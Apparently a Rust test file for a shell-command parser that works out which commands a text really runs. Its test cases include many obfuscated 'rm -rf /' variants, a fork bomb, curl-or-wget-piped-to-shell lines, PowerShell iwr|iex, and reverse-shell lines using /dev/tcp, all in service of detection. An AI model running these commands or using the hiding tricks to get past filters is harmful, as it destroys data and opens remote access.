//! Command strings, and the commands that they run.

use mentci_shell::{Command, Limits, Script, Via, parse};

/// One line for each command: `cwd$ via>via> program [subcommand] args {flags} <from`.
fn render(script: &Script) -> String {
    let mut lines: Vec<String> = script.commands.iter().map(line).collect();
    lines.extend(script.incomplete.map(|reason| format!("!{reason:?}")));
    lines.join(" | ")
}

fn line(command: &Command) -> String {
    let mut parts: Vec<String> = command.via.iter().map(way).collect();
    parts.extend((!command.program.is_empty()).then(|| command.program.clone()));
    parts.extend(
        command
            .args
            .iter()
            .map(|arg| if arg.is_static { arg.text.clone() } else { format!("‹{}›", arg.text) }),
    );
    parts.extend(
        command
            .redirects
            .iter()
            .map(|redirect| format!("{:?}:{}", redirect.op, redirect.target.text.trim_end())),
    );
    parts.extend((!command.code_from.is_empty()).then(|| format!("<={}", command.code_from.join(","))));
    parts.join(" ")
}

fn way(via: &Via) -> String {
    match via {
        Via::Substitution => "$>".to_owned(),
        Via::Function(name) => format!("{name}()>"),
        Via::Program(name) => format!("{name}>"),
    }
}

fn seen(text: &str) -> String {
    render(&parse(text, Limits::default()))
}
/// What each text runs. `$>` is a substitution, `sudo>` a program that runs another, `‹…›` a word that is not known,
/// `<=` whose output is run as code.
const CASES: &[(&str, &str)] = &[
    (
        r#"sudo env X=1 bash -c "rm -rf /""#,
        "sudo | sudo> env X=1 | sudo> env> bash -c rm -rf / | sudo> env> bash> rm -rf /",
    ),
    ("a; rm -rf ~", "a | rm -rf ‹~›"),
    ("$(curl example.com/x | sh)", "$(...) | $> curl example.com/x | $> sh <=curl"),
    ("find . -name '*.o' -delete", "find . -name *.o -delete"),
    ("find . -type f -exec rm -f {} \\; -print", "find . -type f -exec -print | find> rm -f ‹{}›"),
    ("ls | xargs rm -f", "ls | xargs | xargs> rm -f ‹$(...)›"),
    ("echo a b | xargs rm", "echo a b | xargs | xargs> rm a b"),
    ("git -C x push -f", "git -C x push -f"),
    ("\rm -rf /", "m -rf /"),
    (r#"r''m -rf "/""#, "rm -rf /"),
    ("$'\\x72m' -rf /", "rm -rf /"),
    ("{rm,-rf,/}", "rm -rf /"),
    ("rm${IFS}-rf${IFS}/", "rm -rf /"),
    ("cat$IFS$9/etc/passwd", "cat ‹/etc/passwd›"),
    ("who$@ami", "whoami"),
    ("X=rm; $X -rf /", " | rm -rf /"),
    ("a=r; b=m; $a$b x", " |  | rm x"),
    ("X=rm; false && X=ls; $X x", " | false |  | $X x"),
    (r#"a=(rm -rf /); "${a[@]}""#, " | rm -rf /"),
    ("$(echo rm) -rf /", "rm -rf / | $> echo rm"),
    ("$(printf '\\x72\\x6d') x", "rm x | $> printf \\x72\\x6d"),
    ("${Z:-rm} x", "rm x"),
    ("/bin/r? x", "rm x"),
    ("echo cm0gLXJmIC8K | base64 -d | sh", "echo cm0gLXJmIC8K | base64 -d | sh <=echo,base64 | sh> rm -rf /"),
    ("echo 726d2078 | xxd -r -p | bash", "echo 726d2078 | xxd -r -p | bash <=echo,xxd | bash> rm x"),
    ("cat <<EOF\nrm -rf /\nEOF", "cat Here:rm -rf /"),
    ("cat <<EOF | bash\nrm -rf /\nEOF", "cat Here:rm -rf / | bash <=cat | bash> rm -rf /"),
    ("bash <<EOF\nrm -rf $HOME\nEOF\nls", "bash Here:rm -rf $HOME | bash> rm -rf ‹$HOME› | ls"),
    ("cat <<EOF\n$(rm x)\nEOF", "cat Here:$(...) | $> rm x"),
    ("cat <<'EOF'\n$(rm x)\nEOF", "cat Here:$(rm x)"),
    ("bash <<<'rm x'", "bash Here:rm x | bash> rm x"),
    (r#"echo "rm -rf /" # rm -rf /"#, "echo rm -rf /"),
    (r#"grep "rm -rf" notes.txt"#, "grep rm -rf notes.txt"),
    (r#"git commit -m "rm -rf""#, "git commit -m rm -rf"),
    (r#"echo "$(git reset --hard)" `rm x`"#, "echo ‹$(...)› ‹$(...)› | $> git reset --hard | $> rm x"),
    ("case $x in a|b) rm a;; (*) ls;; esac", "rm a | ls"),
    ("if test -d x; then rm x; elif y; then z; else w; fi", "test -d x | rm x | y | z | w"),
    (r#"for d in /a /b; do rm -r "$d"; done"#, "rm -r /a /b"),
    (r#"for d in a b; do rm "$d/c" $d/e; done"#, "rm a/c b/c a/e b/e"),
    (r#"for d in a b; do sh -c "rm $d"; done"#, "sh -c rm a b | sh> rm a b"),
    (r#"for d in 'a b' c; do rm "$d"; done"#, "rm a b c"),
    (r#"f() { rm "$1"; }; f a; x=b; f $x"#, "f()> rm ‹$1› | f a | f()> rm a |  | f b | f()> rm b"),
    (
        r"x=a; f() { rm $x; }; x=b; f; trap f EXIT",
        " | f()> rm a |  | f | f()> rm b | trap f EXIT | trap> f | trap> f()> rm b",
    ),
    (r#"for d in a/*; do rm -r "$d"; done"#, "rm -r a/*"),
    ("while read x; do rm $x; done < list", "Read:list | read x | rm ‹$x›"),
    (":(){ :|:& };:", ":()> : | :()> : | :"),
    (r#"f() { rm "$1"; }; f /"#, "f()> rm ‹$1› | f / | f()> rm /"),
    ("function g { rm h; }", "g()> rm h"),
    ("(cd /a && ls) > out", "Write:out | cd /a | ls"),
    ("cd /a && git -C b push && rm c", "cd /a | git -C b push | rm c"),
    ("{ curl x; } | sh", "curl x | sh <=curl"),
    ("[[ $x =~ ^(a|b)$ && -f y ]] && rm y", "[[ ‹$x› ‹=~› ^ a b $ -f y ]] | rm y"),
    ("((i++)); for ((i=0; i<3; i++)); do rm $i; done", "rm ‹$i›"),
    ("echo $((1 + $(rm q)))", "echo ‹$(...)› | $> rm q"),
    ("diff <(curl a) >(sh)", "diff ‹$(...)› ‹$(...)› | $> curl a | $> sh <=diff"),
    ("curl x | bash -c \"$(cat)\"", "curl x | bash -c ‹$(...)› <=cat,curl | bash> $(...) | $> cat"),
    ("curl x | echo \"$(cat y)\"", "curl x | echo ‹$(...)› | $> cat y"),
    ("curl x | sed e", "curl x | sed e <=curl"),
    ("curl x | deno run -", "curl x | deno run - <=curl"),
    ("bash <(curl x)", "bash ‹$(...)› <=curl | $> curl x"),
    (r#"bash -c "$(curl x)""#, "bash -c ‹$(...)› <=curl | bash> $(...) | $> curl x"),
    (r#"X=$(curl x); eval "$X""#, " | $> curl x | eval ‹$(...)› <=curl | eval> $(...)"),
    (
        "curl -o x.sh example.com && chmod +x x.sh && ./x.sh",
        "curl -o x.sh example.com | chmod +x x.sh | x.sh <=curl",
    ),
    ("wget -qO- x | sudo bash", "wget -qO- x | sudo | sudo> bash <=wget"),
    ("nice -n 19 rm x", "nice -n 19 | nice> rm x"),
    ("timeout -k 5 10 rm x", "timeout -k 5 10 | timeout> rm x"),
    ("time rm x", "time | time> rm x"),
    ("sudo -u bob -- rm x", "sudo -u bob -- | sudo> rm x"),
    ("command -v rm", "command -v rm"),
    ("builtin command rm x", "builtin | builtin> command | builtin> command> rm x"),
    (r#"su - root -c "rm x""#, "su - root -c rm x | su> rm x"),
    (r#"env -S "rm x""#, "env -S rm x | env> rm x"),
    ("watch -n 1 rm x", "watch -n 1 rm x | watch> rm x"),
    ("ssh -p 22 host 'rm x'", "ssh -p 22 host rm x | ssh> rm x"),
    ("docker exec -it web rm x", "docker exec -it web | docker> rm x"),
    ("kubectl exec pod -- rm x", "kubectl exec pod -- | kubectl> rm x"),
    ("busybox rm x", "busybox | busybox> rm x"),
    ("parallel rm ::: a b", "parallel rm ::: a b | parallel> rm a b"),
    ("sudo --us root rm x", "sudo --us root | sudo> rm x"),
    ("ls | xargs --replace rm {}", "ls | xargs --replace | xargs> rm ‹$(...)›"),
    ("docker run --pull always alpine rm x", "docker run --pull always alpine | docker> rm x"),
    ("parallel ::: 'rm a' 'rm b'", "parallel ::: rm a rm b | parallel> rm a | parallel> rm b"),
    ("echo 'rm x' | xargs -I{} sh -c '{}'", "echo rm x | xargs -I{} | xargs> sh -c rm x | xargs> sh> rm x"),
    (
        "echo 'rm x' | xargs -I % bash -c %",
        "echo rm x | xargs -I % | xargs> bash -c rm x | xargs> bash> rm x",
    ),
    (
        "curl x | xargs -I{} sh -c '{}'",
        "curl x | xargs -I{} | xargs> sh -c ‹$(...)› <=curl | xargs> sh> $(...)",
    ),
    ("ls | xargs -I{} mv {} b/{}", "ls | xargs -I{} | xargs> mv ‹$(...)› ‹b/$(...)›"),
    ("bwrap --bind a b --unshare-pid -- rm x", "bwrap --bind a b --unshare-pid -- | bwrap> rm x"),
    ("cpulimit -l 50 -- rm x", "cpulimit -l 50 -- | cpulimit> rm x"),
    ("sg docker -c 'rm x'", "sg docker -c rm x | sg> rm x"),
    ("pdsh -w a,b rm x", "pdsh -w a,b rm x | pdsh> rm x"),
    ("/lib64/ld-linux-x86-64.so.2 /bin/rm x", "ld.so | ld.so> rm x"),
    (
        "powershell -Command \"iwr x | iex\"",
        "powershell -Command iwr x | iex | powershell> iwr x | powershell> iex <=iwr",
    ),
    ("tee a.sh <<< 'rm x'; bash a.sh", "tee a.sh Here:rm x | bash a.sh <=tee | bash> rm x"),
    (
        "echo 'import os; os.remove(\"x\")' > a.py; python3 a.py",
        "echo import os; os.remove(\"x\") Write:a.py | python a.py <=echo | python> rm x",
    ),
    ("x=a; unset x; rm \"$x/b\" ${x:-c}", " | unset x | rm /b ‹c›"),
    ("x=a; f() { local x=b; rm $x; }; rm $x", " | f()> local x=b | f()> rm b | rm a"),
    ("x=a; f() { x=b; }; f; rm $x", " | f()> | f | rm b"),
    ("f() { x=b; }; x=a; f; rm $x", "f()> |  | f | rm b"),
    ("f() { x=a; }; f; rm $x", "f()> | f | rm a"),
    ("x=a; . y; rm $x; x=b; rm $x", " | source y | rm ‹a› |  | rm b"),
    ("x=a; . v/bin/activate; rm $x", " | source v/bin/activate | rm a"),
    ("d=$(mktemp -d); rm \"$d/../x\"", " | $> mktemp -d | rm /tmp/tmp.XXXXXXXXXX/../x"),
    ("rm $(mktemp -d -p a b.XXX)", "rm a/b.XXX | $> mktemp -d -p a b.XXX"),
    (
        "python3 -c \"from shutil import rmtree as r; r('x')\"",
        "python -c from shutil import rmtree as r; r('x') | python> rm -rf x",
    ),
    (
        "node -e \"const {execSync: e} = require('child_process'); e('rm x')\"",
        "node -e const {execSync: e} = require('child_process'); e('rm x') | node> rm x",
    ),
    ("python3 -c \"r = os.remove; r('x')\"", "python -c r = os.remove; r('x') | python> rm x"),
    (
        "python3 -c \"[p.unlink() for p in Path('x').rglob('*')]\"",
        "python -c [p.unlink() for p in Path('x').rglob('*')] | python> rm ‹$(...)› | python> rm -rf x",
    ),
    ("trap 'rm x' EXIT", "trap rm x EXIT | trap> rm x"),
    ("alias x='rm y'; x", "alias x=rm y | x | alias> rm y"),
    ("npx rimraf dist", "npx | npx> rimraf dist"),
    (
        "git submodule foreach 'git reset --hard'",
        "git submodule foreach git reset --hard | git> git reset --hard",
    ),
    (r#"sh -c 'rm "$1"' _ /"#, r#"sh -c rm "$1" _ / | sh> rm /"#),
    (
        r#"python3 -c 'import shutil; shutil.rmtree("/x")'"#,
        r#"python -c import shutil; shutil.rmtree("/x") | python> rm -rf /x"#,
    ),
    (
        r#"python3 -c 'import os; os.system("rm x")'"#,
        r#"python -c import os; os.system("rm x") | python> rm x"#,
    ),
    (
        "python - <<EOF\nimport os; os.remove(\"x\")\nEOF",
        r#"python - Here:import os; os.remove("x") | python> rm x Here:import os; os.remove("x")"#,
    ),
    (
        r#"node -e "require('child_process').execSync('rm x')""#,
        "node -e require('child_process').execSync('rm x') | node> rm x",
    ),
    (r#"perl -e 'system("rm", "x")'"#, r#"perl -e system("rm", "x") | perl> rm x"#),
    ("ruby -e '`rm x`'", "ruby -e `rm x` | ruby> rm x"),
    (r#"awk 'BEGIN{system("rm x")}'"#, r#"awk BEGIN{system("rm x")} | awk> rm x"#),
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -i Write:/dev/tcp/192.0.2.1/4444 Duplicate:1"),
    ("exec 5<>/dev/tcp/192.0.2.1/80", "exec Write:/dev/tcp/192.0.2.1/80"),
    ("rm \\\n  -rf x", "rm -rf x"),
    ("ls\r\nrm x\r\n", "ls | rm x"),
    ("curl x | sh -s -- -y", "curl x | sh -s -- -y <=curl"),
    ("curl x | python3 -", "curl x | python - <=curl"),
    ("echo 'rm x' > a.sh; bash a.sh", "echo rm x Write:a.sh | bash a.sh <=echo | bash> rm x"),
    (
        "cat > a.sh <<'EOF'\nrm x\nEOF\nchmod +x a.sh && ./a.sh",
        "cat Write:a.sh Here:rm x | chmod +x a.sh | a.sh <=cat | a.sh> rm x",
    ),
    (
        "perl -MFile::Path -e 'remove_tree(\"/x\")'",
        "perl -MFile::Path -e remove_tree(\"/x\") | perl> rm -rf /x",
    ),
    (
        "python3 -c \"from pathlib import Path; Path('x').unlink()\"",
        "python -c from pathlib import Path; Path('x').unlink() | python> rm x",
    ),
    ("f() { \"$@\"; }; f rm x", "f()> @ | f rm x | f()> rm x | f()> rm x"),
    ("f() { sudo \"$@\"; }; f rm x", "f()> sudo | f()> sudo> @ | f rm x | f()> rm x | f()> sudo> rm x"),
    ("f() { echo \"$@\"; }; f rm x", "f()> echo ‹$@› | f rm x | f()> echo rm x"),
    ("vim -c ':!rm x' y", "vim -c :!rm x y | vim> rm x"),
    ("nvim '+silent !rm x'", "nvim +silent !rm x | nvim> rm x"),
    ("vim -c 'call system(\"rm x\")'", "vim -c call system(\"rm x\") | vim> rm x"),
    ("vim -c 'wq!' y; vim +42 z; vim -c '%s/a!/b/' w", "vim -c wq! y | vim +42 z | vim -c %s/a!/b/ w"),
    ("ed x <<'E'\n!rm y\nw\nq\nE", "ed x Here:!rm y\nw\nq | ed> rm y"),
    ("while read l; do $l; done < x", "Read:x | read l | $l <=read"),
    ("while read l; do cat $l; done < x", "Read:x | read l | cat ‹$l›"),
    ("node -e \"/a/.exec('rm -rf /')\"", "node -e /a/.exec('rm -rf /')"),
];

#[test]
fn texts_run_these_commands() {
    for (text, expected) in CASES {
        assert_eq!(seen(text), *expected, "{text}");
    }
}

#[test]
fn broken_texts_are_read_as_far_as_they_go() {
    let cases = [
        ("rm x; echo 'open", "rm x | echo open"),
        ("rm x; echo $(rm y", "rm x | echo ‹$(...)› | $> rm y"),
        ("rm x ) ; rm y", "rm x | rm y"),
        ("if rm x", "rm x"),
        ("done; rm x", "rm x"),
        ("cat <<EOF\nrm x", "cat Here:rm x"),
        ("echo ${x:-$(rm y)", "echo ‹$(...)› | $> rm y"),
        ("rm x >", "rm x Write:"),
    ];
    for (text, expected) in cases {
        let script = parse(text, Limits::default());
        assert_eq!(render(&script), expected, "{text}");
        assert_eq!(script.malformed, !text.ends_with('>'), "{text}");
    }
}

/// Calls of other languages without brackets, under other names and of what a variable holds; coprocesses.
#[test]
fn what_is_called_by_other_ways_is_seen() {
    let told = [
        r#"perl -e 'unlink glob "~/*"'"#,
        "perl -e 'unlink </etc/*.conf>'",
        "perl -e 'unlink for </etc/*>'",
        r#"perl -we 'use File::Find; find(sub { unlink }, "/srv")'"#,
        "coproc rm -rf /",
        "coproc { rm -rf /; }",
        "coproc X { rm -rf /; }",
        "coproc X ( rm -rf / )",
        "coproc while x; do rm -rf /; done",
        r#"awk 'BEGIN { cmd="rm -rf /"; system(cmd) }'"#,
        r#"python3 -c "import subprocess as s; s.run(['rm','-rf','/'])""#,
        r#"python3 -c "p='/srv'; import shutil; shutil.rmtree(p)""#,
        r#"node -e 'const c=require("child_process"); c.exec("rm -rf /")'"#,
        r#"perl -e '$c="rm -rf /"; system($c)'"#,
        r#"python3 -c "s='rm -rf /'; print(s)""#,
    ];
    let told: Vec<String> = told.iter().map(|text| format!("{text}\n    {}", seen(text))).collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    perl -e 'unlink glob "~/*"'
        perl -e unlink glob "~/*" | perl> rm ~/*
    perl -e 'unlink </etc/*.conf>'
        perl -e unlink </etc/*.conf> | perl> rm /etc/*.conf
    perl -e 'unlink for </etc/*>'
        perl -e unlink for </etc/*> | perl> rm ‹for </etc/*>› | perl> rm -rf /etc/*
    perl -we 'use File::Find; find(sub { unlink }, "/srv")'
        perl -we use File::Find; find(sub { unlink }, "/srv") | perl> rm ‹}› | perl> rm -rf /srv
    coproc rm -rf /
        coproc | coproc> rm -rf /
    coproc { rm -rf /; }
        rm -rf /
    coproc X { rm -rf /; }
        rm -rf /
    coproc X ( rm -rf / )
        rm -rf /
    coproc while x; do rm -rf /; done
        x | rm -rf /
    awk 'BEGIN { cmd="rm -rf /"; system(cmd) }'
        awk BEGIN { cmd="rm -rf /"; system(cmd) } | awk> rm -rf /
    python3 -c "import subprocess as s; s.run(['rm','-rf','/'])"
        python -c import subprocess as s; s.run(['rm','-rf','/']) | python> rm -rf /
    python3 -c "p='/srv'; import shutil; shutil.rmtree(p)"
        python -c p='/srv'; import shutil; shutil.rmtree(p) | python> rm -rf /srv
    node -e 'const c=require("child_process"); c.exec("rm -rf /")'
        node -e const c=require("child_process"); c.exec("rm -rf /") | node> rm -rf /
    perl -e '$c="rm -rf /"; system($c)'
        perl -e $c="rm -rf /"; system($c) | perl> rm -rf /
    python3 -c "s='rm -rf /'; print(s)"
        python -c s='rm -rf /'; print(s)
    "#);
}

/// What hides a command: how words are split, arrays, operators of variables, what functions and scripts are handed,
/// copies of programs, other names, startup files, descriptors, and words in front that may be nothing.
const HIDING: &[&str] = &[
    "IFS=,; c=rm,-rf,/; $c",
    "IFS=','; c='rm,-rf,/'; $c",
    "(IFS=:; $(echo rm:-rf:/))",
    "f() { local IFS=,; $1; }; f rm,-rf,/",
    "if x; then IFS=,; fi; c=rm,-rf,/; $c",
    "printf -v IFS ,; c=rm,-rf,/; $c",
    "IFS=, read a b c <<< rm,-rf,/; $a $b $c",
    "read -ra a <<< 'rm -rf /'; \"${a[@]}\"",
    "mapfile -t a <<< $'rm\\n-rf\\n/'; \"${a[@]}\"",
    "set -- r m; IFS=; \"$*\" -rf /",
    "a=(x rm -rf /); ${a[1]} -rf /",
    "a=(x rm -rf /); \"${a[@]:1}\"",
    "a[0]=rm; a[1]=-rf; a[2]=/; ${a[*]}",
    "a=(); a+=(rm -rf /); \"${a[@]}\"",
    "declare -A m=([k]=rm); ${m[k]} -rf /",
    "declare a=(rm -rf /); \"${a[@]}\"",
    "a=rm; a+=' -rf /'; $a",
    "c='rm -rf /'; y=c; ${!y}",
    "c='rm -rf /'; declare -n r=c; $r",
    "c=RM; ${c,,} -rf /",
    "c=rXm; ${c/X} -rf /",
    "c=/x/rm; ${c##*/} -rf /",
    "c=rm.x; ${c%.*} -rf /",
    "c=xxrmxx; ${c: -4:2} -rf /",
    "set -- rm -rf /; \"$@\"",
    "set x rm -rf /; shift; $1 $2 $3",
    "bash -c '\"$@\"' _ rm -rf /",
    "sh -s rm -rf / <<< '\"$@\"'",
    "f() { set -- rm \"$@\"; \"$@\"; }; f -rf /",
    "f() { \"${@:2}\"; }; f x rm -rf /",
    "cp /bin/rm x; ./x -rf /",
    "ln -s /bin/rm /tmp/ls; /tmp/ls -rf /",
    "hash -p /bin/rm ls; ls -rf /",
    "time { rm -rf /; }",
    "time -p (rm -rf /)",
    "env - rm -rf /",
    "env -S 'rm -rf' /",
    "env -S '-i rm -rf /'",
    "env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls",
    "$SUDO rm -rf /",
    "su x <<< 'rm -rf /'",
    "sudo -s <<< 'rm -rf /'",
    "echo rm -rf / | bash -c 'xargs env'",
    "cat <(echo rm -rf /) | sh",
    "echo 'rm -rf /' > x; cat x | sh",
    "sh -c \"$(cat <(echo rm -rf /))\"",
    "echo 'rm -rf /' > >(sh)",
    "tee >(bash) <<< 'rm -rf /'",
    "exec <<< 'rm -rf /'; sh",
    "exec 3<<< 'rm -rf /'; sh <&3",
    "echo 'rm -rf /' > /tmp/e; BASH_ENV=/tmp/e bash -c ls",
    "BASH_ENV='$(rm -rf /)' bash -c ls",
    "bash --rcfile <(echo rm -rf /) -i",
    "echo ${x[$(rm -rf /)]}",
    "test -v 'a[$(rm -rf /)]'",
    "xargs -d, env <<< rm,-rf,/",
    "xargs -a <(echo rm -rf /) env",
    "printf 'rm\\0-rf\\0/' | xargs -0 env",
    "bind -x '\"a\": rm -rf /'",
    "compgen -C 'rm -rf /'",
    "perl -e 'system qw(rm -rf /)'",
    "ruby -e 'system(*%w[rm -rf /])'",
    "echo cm0gLXJmIC8= | python3 -m base64 -d | sh",
];

#[test]
fn what_is_hidden_is_seen() {
    let is_deletion = |command: &Command| {
        command.program == "rm"
            && command.has_flag(&["recursive"])
            && command.args.iter().any(|word| word.text == "/")
    };
    for text in HIDING {
        let script = parse(text, Limits::default());
        assert!(script.commands.iter().any(is_deletion), "{text}\n    {}", render(&script));
    }
}

#[test]
fn what_is_not_run_is_not_told() {
    let told = [
        "ENV=production npm start",
        "IFS=$'\\n'; for f in $(ls); do wc \"$f\"; done",
        "OLD=$IFS; IFS=,; IFS=$OLD; x=a,b; wc $x",
        "$EDITOR -w notes.txt",
        "$GIT rm x",
        "set -euo pipefail; make",
        "c=$x; ${c%.*} y",
        "time make",
        "IFS=$sep; c=rm,x; $c",
        "cp a b; ./b",
    ];
    let told: Vec<String> = told.iter().map(|text| format!("{text}\n    {}", seen(text))).collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
    ENV=production npm start
        npm start
    IFS=$'\n'; for f in $(ls); do wc "$f"; done
         | $> ls | wc ‹$f›
    OLD=$IFS; IFS=,; IFS=$OLD; x=a,b; wc $x
         |  |  |  | wc a,b
    $EDITOR -w notes.txt
        $EDITOR -w notes.txt
    $GIT rm x
        $GIT rm x
    set -euo pipefail; make
        set -euo pipefail | make
    c=$x; ${c%.*} y
         | ${c%...} y | ${c%...}> y
    time make
        time | time> make
    IFS=$sep; c=rm,x; $c
         |  | rm,x
    cp a b; ./b
        cp a b | b
    "#);
}
